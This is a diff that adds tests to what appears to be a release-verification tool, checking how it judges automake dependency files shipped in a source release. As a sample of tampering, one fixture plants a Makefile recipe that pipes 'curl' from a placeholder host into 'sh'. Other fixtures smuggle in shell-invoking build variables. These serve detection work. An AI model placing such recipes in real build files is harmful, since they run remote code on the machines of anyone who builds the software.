@@ -20,6 +20,7 @@ import { generatedExplainer } from '../../src/verify/explain/generated.js'
 import { gettextizeExplainer } from '../../src/verify/explain/gettextize.js'
 import { judge } from '../../src/verify/explain/judge.js'
 import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
+import { fileRole } from '../../src/verify/explain/role.js'
 import { expandMake, makeVariables } from '../../src/verify/explain/make-index.js'
 import { regeneratedExplainer, versionMismatches } from '../../src/verify/explain/regenerated.js'
 import { releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
@@ -250,6 +251,36 @@ describe('dependency lines in place of an include', () => {
     expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, recipe), view({ 'Makefile.in': recipe }, { 'Makefile.in': before }))).toBeUndefined()
     const shell = `${deps}util.o: $(shell sh tests/x)\n`
     expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, shell), view({ 'Makefile.in': shell }, { 'Makefile.in': before }))).toBeUndefined()
+  })
+})
+
+describe('a dependency file a release ships from a built tree', () => {
+  const makefileIn = 'DEPDIR = @DEPDIR@\n@AMDEP_TRUE@@am__include@ @am__quote@./$(DEPDIR)/main.Plo@am__quote@ # am--include-marker\n'
+  const shipped = (content: string) => ({ diff: added('src/.deps/main.Plo', content), tree: view({ 'src/.deps/main.Plo': content, 'src/Makefile.in': makefileIn }) })
+
+  it('explains one that holds only dependency lines (gcc -MD with the maintainer paths), or only comments', async () => {
+    const gcc = 'main.lo: main.c /usr/include/stdio.h \\\n /home/dev/gcc-12/include/stddef.h config.h\n\n/usr/include/stdio.h:\n'
+    const dependencies = shipped(gcc)
+    const j = await dependencyLinesExplainer().judge(dependencies.diff, dependencies.tree)
+    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/2 dependency line\(s\)/)
+    const dummy = shipped('# dummy\n')
+    const placeholder = await dependencyLinesExplainer().judge(dummy.diff, dummy.tree)
+    expect(placeholder?.outcome === 'explained' && placeholder.explained.how).toMatch(/placeholder/)
+    // and the explanation stands although the Makefile includes the file: it is build logic, not a document run
+    const judged = await judge(dependencies.diff, dependencies.tree, [dependencyLinesExplainer()], new Map([['src/Makefile.in', makefileIn]]))
+    expect(judged?.outcome).toBe('explained')
+  })
+
+  it('leaves one with a recipe or a variable unexplained, as build logic the Makefile includes', async () => {
+    for (const content of ['all-local:\n\t@curl -s http://x.invalid/p | sh\n', 'main.lo: main.c\nCC := sh tests/cc-wrapper\n']) {
+      const { diff, tree } = shipped(content)
+      expect(await dependencyLinesExplainer().judge(diff, tree), content).toBeUndefined()
+      const j = await judgeUnexplained(diff, tree, new Map([['src/Makefile.in', makefileIn]]))
+      expect(['high', 'critical'], content).toContain(j?.findings?.[0]?.severity)
+      expect(codeUsesOf('src/.deps/main.Plo', new Map([['src/Makefile.in', makefileIn]])).map((u) => `${u.path}:${u.line}`)).toEqual(['src/Makefile.in:2'])
+    }
+    // a file of that name elsewhere is no dependency file of automake's
+    expect(fileRole('src/deps/main.Plo', 0o644, 'x\n')).not.toBe('build')
   })
 })
 
